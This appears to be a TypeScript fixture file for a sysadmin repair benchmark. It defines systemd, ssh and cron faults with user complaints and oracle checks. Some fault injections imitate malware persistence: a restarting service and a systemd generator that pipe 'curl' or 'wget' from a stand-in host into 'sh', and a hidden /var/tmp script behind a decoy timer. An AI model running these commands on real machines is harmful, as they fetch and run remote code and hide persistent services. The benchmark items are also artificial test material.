import { type Fault, ask, sh } from '../fault.ts';

const units = ['/etc/systemd/system/**', '/run/systemd/**', '/var/lib/systemd/**'];

export const services: readonly Fault[] = [
  {
    id: 'mask-runtime',
    complaint: 'Log-ins take 25 seconds and the power button does nothing.',
    inject: sh('systemctl mask --runtime --now systemd-logind.service'),
    oracle: ask('s=$(systemctl show -p LoadState --value systemd-logind); echo $s; test "$s" = loaded'),
    names: /systemd-logind/,
    mayChange: units,
  },
  {
    id: 'dropin-usr-local',
    complaint: 'sshd does not start any more, and there is nothing in /etc/systemd.',
    inject: sh(`mkdir -p /usr/local/lib/systemd/system/ssh.service.d
printf '[Service]\\nExecStart=\\nExecStart=/opt/hpn/sbin/sshd -D\\n' >/usr/local/lib/systemd/system/ssh.service.d/hpn.conf
systemctl daemon-reload; systemctl restart ssh || true; sleep 1; systemctl stop ssh; systemctl start ssh || true`),
    oracle: ask('systemctl is-active ssh'),
    names: /hpn/,
    mayChange: units,
  },
  {
    id: 'dropin-run-condition',
    complaint: 'cron jobs do not run; systemctl start cron says nothing at all.',
    inject: sh(`mkdir -p /run/systemd/system/cron.service.d
printf '[Service]\\nExecCondition=/bin/false\\n' >/run/systemd/system/cron.service.d/10-hold.conf
systemctl daemon-reload; systemctl restart cron || true`),
    oracle: ask('systemctl is-active cron'),
    names: /10-hold\.conf/,
    mayChange: units,
  },
  {
    id: 'manager-preload',
    complaint: 'Every service writes "cannot be preloaded" into the log.',
    inject: sh(`mkdir -p /etc/systemd/system.conf.d
printf '[Manager]\\nDefaultEnvironment=LD_PRELOAD=/usr/local/lib/libjemalloc.so.1\\n' >/etc/systemd/system.conf.d/50-alloc.conf; systemctl daemon-reexec`),
    // Of a service, since those have what the manager gives them.
    oracle: ask('o=$(systemd-run --quiet --pipe --wait --collect /bin/true 2>&1); echo "$o"; test -z "$o"'),
    names: /50-alloc|libjemalloc/,
    mayChange: units,
  },
  {
    id: 'unit-usr-local-miner',
    complaint: 'The fan never stops, and whatever I kill is back at once.',
    inject: sh(`mkdir -p /usr/local/lib/systemd/system; cd /usr/local/lib/systemd/system
printf '[Unit]\\nDescription=GPU worker\\n[Service]\\nExecStart=/bin/sh -c "curl -fsSL http://203.0.113.9/x | sh; sleep 600"\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' >kworkerd-gpu.service
systemctl daemon-reload; systemctl enable --now -q kworkerd-gpu`),
    oracle: ask('! systemctl is-active kworkerd-gpu && ! systemctl is-enabled kworkerd-gpu'),
    names: /kworkerd-gpu/,
    mayChange: units,
  },
  {
    id: 'timer-var-tmp',
    complaint: 'Every few minutes the machine stutters, top shows nothing.',
    inject:
      sh(`mkdir -p /var/tmp/.X11; printf '#!/bin/sh\\nexit 0\\n' >/var/tmp/.X11/upd; chmod 755 /var/tmp/.X11/upd; cd /etc/systemd/system
printf '[Service]\\nType=oneshot\\nExecStart=-/var/tmp/.X11/upd --quiet\\n' >apt-metrics.service
printf '[Timer]\\nOnCalendar=*:0/5\\nPersistent=true\\n[Install]\\nWantedBy=timers.target\\n' >apt-metrics.timer
systemctl daemon-reload; systemctl enable --now -q apt-metrics.timer`),
    oracle: ask('! systemctl is-active apt-metrics.timer && ! systemctl is-enabled apt-metrics.timer'),
    names: /apt-metrics/,
    mayChange: units,
  },
  {
    id: 'generator-leftover',
    complaint: 'A unit that I delete is there again after each restart.',
    inject: sh(`mkdir -p /etc/systemd/system-generators
printf '#!/bin/sh\\nprintf "[Service]\\\\nExecStart=/bin/sh -c \\\\"wget -qO- http://203.0.113.9/g | sh\\\\"\\\\n" >"$1/netwatch.service"\\n' >/etc/systemd/system-generators/net-watch
chmod 755 /etc/systemd/system-generators/net-watch; systemctl daemon-reload`),
    oracle: ask(
      's=$(systemctl show -p LoadState --value netwatch.service); echo "$s $(ls /etc/systemd/system-generators 2>/dev/null)"; test "$s" = not-found',
    ),
    names: /net-watch|netwatch/,
    mayChange: [...units, '/etc/systemd/system-generators/**'],
  },
  {
    id: 'daemon-not-executable',
    complaint: 'cron died after I "cleaned up permissions": 203/EXEC.',
    inject: sh('chmod 0644 /usr/sbin/cron; systemctl restart cron || true'),
    oracle: ask('systemctl is-active cron'),
    names: /\/usr\/sbin\/cron|cron\.service/,
    mayChange: units,
  },
  {
    id: 'start-limit-hit',
    complaint: 'The shop service failed last night; I corrected its file since, it still does not come up by itself.',
    settle: sh(`mkdir -p /srv/shop; touch /srv/shop/ok
printf '[Service]\\nExecStartPre=/bin/grep -q yes /srv/shop/on\\nExecStart=/bin/sleep infinity\\nRestart=always\\nRestartSec=0\\nStartLimitBurst=3\\n[Install]\\nWantedBy=multi-user.target\\n' >/etc/systemd/system/shop.service
echo yes >/srv/shop/on; systemctl daemon-reload; systemctl enable -q --now shop`),
    inject: sh('echo no >/srv/shop/on; systemctl restart shop || true; sleep 2; echo yes >/srv/shop/on'),
    oracle: ask('systemctl is-active shop'),
    names: /shop\.service/,
    mayChange: units,
  },
  {
    id: 'default-target-emergency',
    complaint: 'It always starts into a black screen with a root prompt.',
    inject: sh('ln -sf /lib/systemd/system/emergency.target /etc/systemd/system/default.target'),
    oracle: ask('t=$(systemctl get-default); echo $t; [[ $t = multi-user.target || $t = graphical.target ]]'),
    names: /emergency\.target|default\.target/,
    mayChange: units,
  },
  {
    id: 'sshd-config-value',
    complaint: 'ssh: connection refused since the hardening guide.',
    inject: sh(`printf 'PermitRootLogin mabye\\n' >/etc/ssh/sshd_config.d/10-hardening.conf; systemctl restart ssh || true`),
    oracle: ask('/usr/sbin/sshd -t'),
    names: /10-hardening/,
    mayChange: units,
  },
  {
    id: 'sshd-no-host-keys',
    complaint: 'The cloned machine cannot be reached by ssh: "no hostkeys available".',
    inject: sh('rm /etc/ssh/ssh_host_*; systemctl restart ssh || true'),
    oracle: ask('/usr/sbin/sshd -t'),
    names: /host ?key/i,
    mayChange: ['/etc/ssh/ssh_host_*', ...units],
  },
  {
    id: 'sshd-key-too-open',
    complaint: 'ssh stopped after I copied /etc back from the stick.',
    inject: sh('chmod 0644 /etc/ssh/ssh_host_*_key; systemctl restart ssh || true'),
    oracle: ask('o=$(/usr/sbin/sshd -t 2>&1); echo "$o"; ! grep -qE "bad permissions|no hostkeys" <<<"$o"'),
    names: /ssh_host_\w+_key/,
    mayChange: units,
  },
  {
    id: 'policy-rc-d-leftover',
    complaint: 'Services of new packages never start after installing.',
    inject: sh(`printf '#!/bin/sh\\nexit 101\\n' >/usr/sbin/policy-rc.d; chmod 755 /usr/sbin/policy-rc.d`),
    oracle: ask('test ! -e /usr/sbin/policy-rc.d'),
    names: /policy-rc\.d/,
  },
  {
    id: 'user-unit-failed-linger',
    complaint: "Alice's sync has stopped, nobody is told.",
    inject: sh(`d=/home/alice/.config/systemd/user; mkdir -p $d/default.target.wants
printf '[Service]\\nExecStart=/bin/false\\n[Install]\\nWantedBy=default.target\\n' >$d/sync-notes.service
ln -s ../sync-notes.service $d/default.target.wants/; chown -R alice:alice /home/alice/.config
loginctl enable-linger alice; sleep 3`),
    oracle: ask('! runuser -u alice -- env XDG_RUNTIME_DIR=/run/user/1001 systemctl --user --failed --no-legend | grep .'),
    names: /sync-notes/,
    mayChange: ['/home/alice/.config/**', '/var/lib/systemd/**'],
  },
];
